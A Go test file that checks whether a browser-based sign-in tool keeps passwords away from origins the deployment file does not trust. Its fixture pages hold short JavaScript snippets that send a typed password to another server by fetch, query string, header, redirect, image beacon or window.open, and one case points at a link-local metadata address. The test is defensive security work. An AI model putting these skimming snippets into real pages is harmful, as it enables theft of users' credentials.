package signin

import (
	"fmt"
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/revokespec/revokespec/deployment/file"
)

// scriptsLeadingTo are pages whose scripts give the password to somebody else.
func scriptsLeadingTo(otherOrigin string) map[string]string {
	form := func(script string) string {
		return `<form onsubmit="send(); return false"><input name=username><input type=password name=password><button>Sign in</button></form>
			<script>const word = () => document.forms[0].password.value; function send() {` + script + `}</script>`
	}
	return map[string]string{
		"fetch":    form(`fetch('` + otherOrigin + `/collect', {method: 'POST', body: 'p=' + word()})`),
		"query":    form(`fetch('` + otherOrigin + `/collect?p=' + encodeURIComponent(btoa('x' + word())))`),
		"header":   form(`fetch('` + otherOrigin + `/collect', {headers: {'Accept': word()}})`),
		"location": form(`location.href = '` + otherOrigin + `/collect?p=' + word()`),
		"image":    form(`new Image().src = '` + otherOrigin + `/collect?p=' + word()`),
		"opened":   form(`window.open('` + otherOrigin + `/collect?p=' + word())`),
	}
}

// In a Chromium, too, a password goes nowhere but to origins that the file names.
func TestThePasswordStaysWithTheServerInAChromium(t *testing.T) {
	needsChromium(t)
	other, p := newStranger(t), newPortal(t)
	p.leads(other.URL)
	for name, html := range scriptsLeadingTo(other.URL) {
		p.mux.HandleFunc("GET /scripted-"+name, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, html)
		})
	}
	d := p.open(t, func(f *file.File) {
		f.Mint, f.Limits.Timeout = file.Mint{Strategy: file.StrategyBrowser}, 3*time.Second
	})
	named := other.URL + ", which the deployment file does not name; if it is the server's own, write trusted_origins: [" + other.URL + "]"
	inParallel(t, map[string]string{
		"leads-form": "the page at /leads-form sends what is secret to " + named, "leads-get": "the page at /leads-get sends what is secret to " + named,
		"leads-repeated": "sends what is secret to " + named, "leads-away": "the page at /login wants to be filled in at " + named,
		"leads-inside":   "leads to 169.254.169.254, a link-local address",
		"scripted-fetch": "the page at /scripted-fetch sends what is secret to " + named, "scripted-query": "the page at /scripted-query sends what is secret to " + named,
		"scripted-header": "sends what is secret to " + named, "scripted-location": "sends what is secret to " + named, "scripted-image": "the page at /scripted-image", "scripted-opened": "the page at /scripted-opened",
	}, func(t *testing.T, ui, says string) {
		_, _, err := d.signIn(t.Context(), ui, nil)
		assert.ErrorContains(t, err, says)
	})
	for _, secret := range []string{"password-of-1", "user1", "session-id-", "cGFzc3dvcmQ"} {
		assert.NotContains(t, other.received(), secret)
	}
	d.File.TrustedOrigins = []string{other.URL}
	_, _, err := d.signIn(t.Context(), "leads-away", nil)
	require.Error(t, err)
	assert.Contains(t, other.received(), "password-of-1", "it is trusted now")
}
